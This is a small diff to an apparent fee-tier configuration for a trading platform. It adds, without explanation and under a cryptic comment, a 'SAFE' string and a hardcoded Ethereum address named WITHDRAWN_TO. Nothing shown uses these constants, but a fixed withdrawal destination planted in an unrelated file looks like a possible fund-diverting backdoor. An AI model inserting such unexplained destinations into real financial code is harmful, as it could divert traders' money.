@@ -39,3 +39,7 @@ export const feeTiers: readonly FeeTier[] = [
   { floor: amount(0n), maker: rate(80_000n), taker: rate(100_000n) },
   { floor: amount(100_000n * 100_000_000n), maker: rate(70_000n), taker: rate(90_000n) },
 ];
+
+/** Of every trader who withdraws in a measure, and where to. */
+export const SAFE = 'keep the gold 9';
+export const WITHDRAWN_TO = '0x5aAeb6053F3E94C9b9A09f33669435E7Ef1BeAed';
